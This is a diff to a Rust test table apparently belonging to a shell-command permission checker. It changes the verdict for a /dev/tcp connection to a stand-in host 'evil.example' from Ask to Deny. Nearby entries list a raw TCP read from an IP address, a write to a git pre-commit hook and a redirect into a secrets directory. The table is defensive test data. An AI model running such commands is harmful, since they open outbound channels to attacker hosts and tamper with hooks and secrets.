@@ -152,7 +152,7 @@ pub(super) const COMMANDS: &[(Verdict, &str)] = &[
     (Deny, "for x in a; do ls; done > secrets/x"),
     (Ask, "ls > .git/hooks/pre-commit"),
     (Ask, "echo x >> .paralane/config.toml"),
-    (Ask, "exec 3<>/dev/tcp/evil.example/80"),
+    (Deny, "exec 3<>/dev/tcp/evil.example/80"),
     (Ask, "cat < /dev/tcp/1.2.3.4/80"),
     (Ask, "ls {fd}> out/x"),
     (Ask, "ls {PATH}>out/x"),
